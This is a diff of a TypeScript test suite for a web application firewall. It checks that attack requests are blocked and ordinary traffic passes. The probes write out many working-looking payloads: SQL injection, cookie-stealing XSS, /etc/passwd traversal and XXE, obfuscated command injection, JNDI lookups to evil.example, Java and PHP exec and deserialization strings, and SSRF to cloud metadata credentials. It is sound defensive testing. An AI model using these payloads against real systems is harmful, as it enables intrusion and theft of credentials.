@@ -32,7 +32,11 @@ interface Probe {
 }
 
 async function expectDetected(probe: Probe, category: string, location?: string | RegExp): Promise<void> {
-  const r = await stack.sendHttp(probe.path, { method: probe.method ?? (probe.body ? "POST" : "GET"), headers: probe.headers, body: probe.body });
+  const r = await stack.sendHttp(probe.path, {
+    method: probe.method ?? (probe.body ? "POST" : "GET"),
+    headers: probe.headers,
+    body: probe.body,
+  });
   assert.equal(r.status, 403, `expected ${category} in ${JSON.stringify(probe)} to be blocked`);
   assert.equal(r.body, "Access Forbidden", "nothing about the rule is revealed");
   // holdHeadersForBody: even a request blocked on its body never starts upstream.
@@ -50,7 +54,11 @@ async function expectDetected(probe: Probe, category: string, location?: string 
 }
 
 async function expectClean(probe: Probe): Promise<void> {
-  const r = await stack.sendHttp(probe.path, { method: probe.method ?? (probe.body ? "POST" : "GET"), headers: probe.headers, body: probe.body });
+  const r = await stack.sendHttp(probe.path, {
+    method: probe.method ?? (probe.body ? "POST" : "GET"),
+    headers: probe.headers,
+    body: probe.body,
+  });
   assert.equal(r.status, 200, `expected ${JSON.stringify(probe)} to pass`);
 }
 
@@ -59,14 +67,26 @@ const form = { "content-type": "application/x-www-form-urlencoded" };
 
 test("each category is detected where attackers put it", async () => {
   await expectDetected({ path: "/items?id=1%27%20OR%20%271%27%3D%271" }, "sqli", "query:id");
-  await expectDetected({ path: "/comments", headers: json, body: JSON.stringify({ post: 3, text: "<script>alert(document.cookie)</script>" }) }, "xss", "body.json:$.text");
+  await expectDetected(
+    { path: "/comments", headers: json, body: JSON.stringify({ post: 3, text: "<script>alert(document.cookie)</script>" }) },
+    "xss",
+    "body.json:$.text",
+  );
   await expectDetected({ path: "/download?file=..%2F..%2F..%2Fetc%2Fpasswd" }, "traversal", "query:file");
   await expectDetected({ path: "/ping", headers: form, body: "host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd&count=1" }, "cmdi", "body.form:host");
   await expectDetected({ path: "/", headers: { "user-agent": "${jndi:ldap://evil.example/a}" } }, "jndi", "header:user-agent");
-  await expectDetected({ path: "/", headers: { cookie: "theme=dark; session=' UNION SELECT password FROM users--" } }, "sqli", "cookie:session");
+  await expectDetected(
+    { path: "/", headers: { cookie: "theme=dark; session=' UNION SELECT password FROM users--" } },
+    "sqli",
+    "cookie:session",
+  );
   await expectDetected({ path: "/", headers: { "x-forwarded-host": "<svg onload=alert(1)>" } }, "xss", "header:x-forwarded-host");
   await expectDetected({ path: "/search?%3Cscript%3Ealert(1)%3C%2Fscript%3E=1" }, "xss", "query-name");
-  await expectDetected({ path: "/", headers: { "user-agent": "sqlmap/1.7.4#stable (https://sqlmap.org)" } }, "scanner", "header:user-agent");
+  await expectDetected(
+    { path: "/", headers: { "user-agent": "sqlmap/1.7.4#stable (https://sqlmap.org)" } },
+    "scanner",
+    "header:user-agent",
+  );
 });
 
 test("encodings do not evade detection", async () => {
@@ -93,18 +113,32 @@ test("encodings do not evade detection", async () => {
 
 test("ordinary API traffic passes", async () => {
   await expectClean({ path: "/api/v1/orders?status=open&page=2&sort=-created_at" });
-  await expectClean({ path: "/api/v1/orders", headers: json, body: JSON.stringify({ sku: "A-1", qty: 2, note: "Leave it at the door, please; ring twice." }) });
+  await expectClean({
+    path: "/api/v1/orders",
+    headers: json,
+    body: JSON.stringify({ sku: "A-1", qty: 2, note: "Leave it at the door, please; ring twice." }),
+  });
   await expectClean({ path: "/login", headers: form, body: "user=ann%40example.com&remember=on" });
   await expectClean({ path: "/search?q=select+a+good+union+rep+from+the+list" });
   await expectClean({ path: "/docs/guide/./intro.html" });
-  await expectClean({ path: "/", headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" } });
-  for (const agent of ["curl/8.4.0", "python-requests/2.31.0", "Go-http-client/1.1", "kube-probe/1.29", "Prometheus/2.51.0", "ELB-HealthChecker/2.0"]) {
+  await expectClean({
+    path: "/",
+    headers: { "user-agent": "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36" },
+  });
+  for (const agent of [
+    "curl/8.4.0",
+    "python-requests/2.31.0",
+    "Go-http-client/1.1",
+    "kube-probe/1.29",
+    "Prometheus/2.51.0",
+    "ELB-HealthChecker/2.0",
+  ]) {
     await expectClean({ path: "/healthz", headers: { "user-agent": agent } });
   }
 });
 
 test("XML and SOAP bodies: their values are inspected, not their markup", async () => {
-  const soap11 = { "content-type": "text/xml; charset=utf-8", soapaction: "\"urn:example:orders#SubmitOrder\"" };
+  const soap11 = { "content-type": "text/xml; charset=utf-8", soapaction: '"urn:example:orders#SubmitOrder"' };
   const envelope = (body: string) =>
     '<?xml version="1.0" encoding="utf-8"?>\n' +
     '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:m="urn:example:orders">\n' +
@@ -115,18 +149,33 @@ test("XML and SOAP bodies: their values are inspected, not their markup", async 
     headers: soap11,
     body: envelope(
       '      <m:customer xsi:type="m:Customer"><m:name>O\'Brien &amp; Sons</m:name><m:site href="https://obrien.example.com/"/></m:customer>\n' +
-      '      <m:item sku="A-100" qty="2"/>\n      <m:note><![CDATA[Ring twice; leave it at the door.]]></m:note>'),
+        '      <m:item sku="A-100" qty="2"/>\n      <m:note><![CDATA[Ring twice; leave it at the door.]]></m:note>',
+    ),
   });
   await expectClean({
     path: "/soap/stock",
     headers: { "content-type": 'application/soap+xml; charset=utf-8; action="urn:GetPrice"' },
     body: '<env:Envelope xmlns:env="http://www.w3.org/2003/05/soap-envelope"><env:Body><m:GetPrice xmlns:m="urn:stock"><m:Symbol>IBM</m:Symbol></m:GetPrice></env:Body></env:Envelope>',
   });
-  await expectDetected({ path: "/soap/orders", headers: soap11, body: envelope("      <m:id>1' OR '1'='1</m:id>") }, "sqli",
-    "body.xml:/soap:Envelope/soap:Body/m:SubmitOrder/m:id");
-  await expectDetected({ path: "/soap/orders", headers: soap11, body: envelope("      <m:note><![CDATA[<script>alert(1)</script>]]></m:note>") }, "xss",
-    "body.xml:/soap:Envelope/soap:Body/m:SubmitOrder/m:note");
-  await expectDetected({ path: "/import", headers: { "content-type": "application/xml" }, body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>' }, "xxe", "body");
+  await expectDetected(
+    { path: "/soap/orders", headers: soap11, body: envelope("      <m:id>1' OR '1'='1</m:id>") },
+    "sqli",
+    "body.xml:/soap:Envelope/soap:Body/m:SubmitOrder/m:id",
+  );
+  await expectDetected(
+    { path: "/soap/orders", headers: soap11, body: envelope("      <m:note><![CDATA[<script>alert(1)</script>]]></m:note>") },
+    "xss",
+    "body.xml:/soap:Envelope/soap:Body/m:SubmitOrder/m:note",
+  );
+  await expectDetected(
+    {
+      path: "/import",
+      headers: { "content-type": "application/xml" },
+      body: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+    },
+    "xxe",
+    "body",
+  );
 });
 
 /** Sends 128 KiB of each pattern in a JSON value: answered (passed or blocked) within 2 s each. */
@@ -161,20 +210,52 @@ test("the newer families are detected where attackers put them", async () => {
   // php: query, form, JSON, cookie, path.
   await expectDetected({ path: "/index.php?page=" + q("php://filter/convert.base64-encode/resource=config.php") }, "php", "query:page");
   await expectDetected({ path: "/comment", headers: form, body: "text=" + q("<?php system($_GET['c']); ?>") }, "php", "body.form:text");
-  await expectDetected({ path: "/api/import", headers: json, body: JSON.stringify({ data: 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}' }) }, "php", "body.json:$.data");
-  await expectDetected({ path: "/", headers: { cookie: "cart=" + q("O:4:\"Cart\":1:{s:1:\"a\";i:1;}") } }, "php", "cookie:cart");
+  await expectDetected(
+    { path: "/api/import", headers: json, body: JSON.stringify({ data: 'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}' }) },
+    "php",
+    "body.json:$.data",
+  );
+  await expectDetected({ path: "/", headers: { cookie: "cart=" + q('O:4:"Cart":1:{s:1:"a";i:1;}') } }, "php", "cookie:cart");
   await expectDetected({ path: "/render/" + q("<?php phpinfo(); ?>") + "/x" }, "php", "path");
   // java: cookie (serialized object), header, form name (Spring4Shell), query, JSON.
-  await expectDetected({ path: "/", headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==" } }, "java", "cookie:rememberMe");
-  await expectDetected({ path: "/", headers: { "x-forwarded-host": "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } }, "java", "header:x-forwarded-host");
-  await expectDetected({ path: "/register", headers: form, body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&name=a" }, "java", "body.form:class.module.classLoader.resources.context.parent.pipeline.first.pattern");
+  await expectDetected(
+    { path: "/", headers: { cookie: "rememberMe=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==" } },
+    "java",
+    "cookie:rememberMe",
+  );
+  await expectDetected(
+    { path: "/", headers: { "x-forwarded-host": "%{(#_memberAccess['allowStaticMethodAccess']=true)}" } },
+    "java",
+    "header:x-forwarded-host",
+  );
+  await expectDetected(
+    { path: "/register", headers: form, body: "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x&name=a" },
+    "java",
+    "body.form:class.module.classLoader.resources.context.parent.pipeline.first.pattern",
+  );
   await expectDetected({ path: "/greet?name=" + q("#{T(java.lang.Runtime).getRuntime().exec('id')}") }, "java", "query:name");
-  await expectDetected({ path: "/api/parse", headers: json, body: JSON.stringify({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "x" }) }, "java", "body.json:$.@type");
+  await expectDetected(
+    { path: "/api/parse", headers: json, body: JSON.stringify({ "@type": "com.sun.rowset.JdbcRowSetImpl", dataSourceName: "x" }) },
+    "java",
+    "body.json:$.@type",
+  );
   // ssrf: query, JSON, form, header, path.
-  await expectDetected({ path: "/fetch?url=" + q("http://169.254.169.254/latest/meta-data/iam/security-credentials/") }, "ssrf", "query:url");
-  await expectDetected({ path: "/api/webhooks", headers: json, body: JSON.stringify({ target: "http://0x7f000001:6379/" }) }, "ssrf", "body.json:$.target");
+  await expectDetected(
+    { path: "/fetch?url=" + q("http://169.254.169.254/latest/meta-data/iam/security-credentials/") },
+    "ssrf",
+    "query:url",
+  );
+  await expectDetected(
+    { path: "/api/webhooks", headers: json, body: JSON.stringify({ target: "http://0x7f000001:6379/" }) },
+    "ssrf",
+    "body.json:$.target",
+  );
   await expectDetected({ path: "/preview", headers: form, body: "link=" + q("http://[::ffff:127.0.0.1]/admin") }, "ssrf", "body.form:link");
-  await expectDetected({ path: "/", headers: { "x-forwarded-host": "http://metadata.google.internal/computeMetadata/v1/" } }, "ssrf", "header:x-forwarded-host");
+  await expectDetected(
+    { path: "/", headers: { "x-forwarded-host": "http://metadata.google.internal/computeMetadata/v1/" } },
+    "ssrf",
+    "header:x-forwarded-host",
+  );
   await expectDetected({ path: "/proxy/" + q("http://2130706433/") }, "ssrf", "path");
   await expectDetected({ path: "/fetch?u=" + q("gopher://127.0.0.1:6379/_SET") }, "ssrf", "query:u");
   // rfi: query, form, cookie.
@@ -186,21 +267,49 @@ test("the newer families are detected where attackers put them", async () => {
   await expectDetected({ path: "/render", headers: form, body: "template=" + q("https://evil.example/t") }, "rfi", "body.form:template");
   // protopollution: query name, JSON key, form name, path segment.
   await expectDetected({ path: "/api/settings?__proto__[isAdmin]=true" }, "protopollution", "query-name");
-  await expectDetected({ path: "/api/merge", headers: json, body: '{"user":{"__proto__":{"role":"admin"}}}' }, "protopollution", "body.json:$.user.__proto__");
-  await expectDetected({ path: "/api/profile", headers: form, body: "constructor[prototype][admin]=1" }, "protopollution", "body.form:constructor[prototype][admin]");
+  await expectDetected(
+    { path: "/api/merge", headers: json, body: '{"user":{"__proto__":{"role":"admin"}}}' },
+    "protopollution",
+    "body.json:$.user.__proto__",
+  );
+  await expectDetected(
+    { path: "/api/profile", headers: form, body: "constructor[prototype][admin]=1" },
+    "protopollution",
+    "body.form:constructor[prototype][admin]",
+  );
   await expectDetected({ path: "/api/__proto__/x" }, "protopollution", "path");
   await expectDetected({ path: "/api/set/constructor/prototype/isAdmin" }, "protopollution", "path");
   // sessionfixation: query name, form value.
   await expectDetected({ path: "/login?PHPSESSID=attacker0123" }, "sessionfixation", "query-name");
-  await expectDetected({ path: "/contact", headers: form, body: "msg=" + q("Set-Cookie: JSESSIONID=fixated") }, "sessionfixation", "body.form:msg");
+  await expectDetected(
+    { path: "/contact", headers: form, body: "msg=" + q("Set-Cookie: JSESSIONID=fixated") },
+    "sessionfixation",
+    "body.form:msg",
+  );
   // protocol: a request smuggled in a form value; a header repeated past the bound.
-  await expectDetected({ path: "/submit", headers: form, body: "data=" + q("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n") }, "protocol", "body.form:data");
+  await expectDetected(
+    { path: "/submit", headers: form, body: "data=" + q("0\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n") },
+    "protocol",
+    "body.form:data",
+  );
   await expectDetected({ path: "/", headers: { "x-dup": Array.from({ length: 20 }, (_, i) => String(i)) } }, "protocol", "header:x-dup");
   // Obfuscated command execution and nested JNDI lookups in a cookie and a JSON field.
   await expectDetected({ path: "/ping?host=" + q("127.0.0.1;c'a't${IFS}/etc/passwd") }, "cmdi", "query:host");
-  await expectDetected({ path: "/ping", headers: form, body: "host=" + q("| echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh") }, "cmdi", "body.form:host");
-  await expectDetected({ path: "/", headers: { cookie: "lang=" + q("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}") } }, "jndi", "cookie:lang");
-  await expectDetected({ path: "/api/log", headers: json, body: JSON.stringify({ msg: "${${lower:j}ndi:${lower:l}dap://x/a}" }) }, "jndi", "body.json:$.msg");
+  await expectDetected(
+    { path: "/ping", headers: form, body: "host=" + q("| echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh") },
+    "cmdi",
+    "body.form:host",
+  );
+  await expectDetected(
+    { path: "/", headers: { cookie: "lang=" + q("${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}") } },
+    "jndi",
+    "cookie:lang",
+  );
+  await expectDetected(
+    { path: "/api/log", headers: json, body: JSON.stringify({ msg: "${${lower:j}ndi:${lower:l}dap://x/a}" }) },
+    "jndi",
+    "body.json:$.msg",
+  );
 });
 
 test("Referer: Envoy removes one that is no URL before any filter; an attack inside a URL is blocked", async () => {
@@ -210,27 +319,78 @@ test("Referer: Envoy removes one that is no URL before any filter; an attack ins
   assert.equal(r.status, 200);
   assert.equal(JSON.parse(r.body).headers.referer, undefined, "the upstream got no Referer");
   // The same expression escaped inside a valid URL reaches the filter, which decodes and blocks it.
-  await expectDetected({ path: "/", headers: { referer: "https://x.example/list?redirect=%25%7B(%23_memberAccess%5B'allowStaticMethodAccess'%5D%3Dtrue)%7D" } }, "java", "header:referer");
+  await expectDetected(
+    {
+      path: "/",
+      headers: { referer: "https://x.example/list?redirect=%25%7B(%23_memberAccess%5B'allowStaticMethodAccess'%5D%3Dtrue)%7D" },
+    },
+    "java",
+    "header:referer",
+  );
 });
 
 test("benign shapes that look like attacks pass", async () => {
   await expectClean({ path: "/collect?us_privacy=1---&gdpr=0&ccpa=1YN-" });
   await expectClean({ path: "/?icid=mmb%7Csc%7Cc1%7C080122%7Cspring_sale%7C5&utm_source=newsletter&utm_campaign=spring%20%7C%20sale" });
-  await expectClean({ path: "/track?dt=" + encodeURIComponent("flights & more | Skyline Travel") + "&dl=" + encodeURIComponent("https://www.example.com/deals") });
-  await expectClean({ path: "/landing?redirect=" + encodeURIComponent("https://app.example.com/account?tab=orders&&ref=nav") + "&gclid=Cj0KCQjw_abc-123" });
-  await expectClean({ path: "/api/v1/snippets", headers: json, body: JSON.stringify({ snippet: "class Foo extends Bar { constructor() { super(); } }", title: "I'd like to select a union rep from the table" }) });
-  await expectClean({ path: "/profile", headers: form, body: "avatar=" + encodeURIComponent("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE/AAAA") + "&email=o%27neil%40example.com" });
+  await expectClean({
+    path:
+      "/track?dt=" + encodeURIComponent("flights & more | Skyline Travel") + "&dl=" + encodeURIComponent("https://www.example.com/deals"),
+  });
+  await expectClean({
+    path: "/landing?redirect=" + encodeURIComponent("https://app.example.com/account?tab=orders&&ref=nav") + "&gclid=Cj0KCQjw_abc-123",
+  });
+  await expectClean({
+    path: "/api/v1/snippets",
+    headers: json,
+    body: JSON.stringify({
+      snippet: "class Foo extends Bar { constructor() { super(); } }",
+      title: "I'd like to select a union rep from the table",
+    }),
+  });
+  await expectClean({
+    path: "/profile",
+    headers: form,
+    body: "avatar=" + encodeURIComponent("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE/AAAA") + "&email=o%27neil%40example.com",
+  });
   await expectClean({ path: "/search?q=constructor+prototype+javascript&session=2" });
-  await expectClean({ path: "/api/v1/orders", headers: json, body: JSON.stringify({ sessionId: "abc", callback: "https://shop.example.com/hooks/order", note: "<p>Ring <b>twice</b></p>" }) });
+  await expectClean({
+    path: "/api/v1/orders",
+    headers: json,
+    body: JSON.stringify({ sessionId: "abc", callback: "https://shop.example.com/hooks/order", note: "<p>Ring <b>twice</b></p>" }),
+  });
 });
 
 test("new detectors stay linear on pathological input", async () => {
-  await expectAnsweredPromptly(["http://", "__proto__", "class.", "\\\\a\\", "<?", "%{", "constructor.", "0x7f.", "\r\nGET / HTTP/1.1\r\n", "${IFS:0:"]);
+  await expectAnsweredPromptly([
+    "http://",
+    "__proto__",
+    "class.",
+    "\\\\a\\",
+    "<?",
+    "%{",
+    "constructor.",
+    "0x7f.",
+    "\r\nGET / HTTP/1.1\r\n",
+    "${IFS:0:",
+  ]);
 });
 
 test("blocked attacks are counted per category", async () => {
   const stats = await stack.stats();
-  for (const category of ["sqli", "xss", "traversal", "cmdi", "jndi", "php", "java", "ssrf", "rfi", "protopollution", "sessionfixation", "protocol"]) {
+  for (const category of [
+    "sqli",
+    "xss",
+    "traversal",
+    "cmdi",
+    "jndi",
+    "php",
+    "java",
+    "ssrf",
+    "rfi",
+    "protopollution",
+    "sessionfixation",
+    "protocol",
+  ]) {
     assert.ok((stats.get(`gatewarden_blocked_${category}_total`) ?? 0) >= 1, `gatewarden_blocked_${category}_total`);
   }
 });
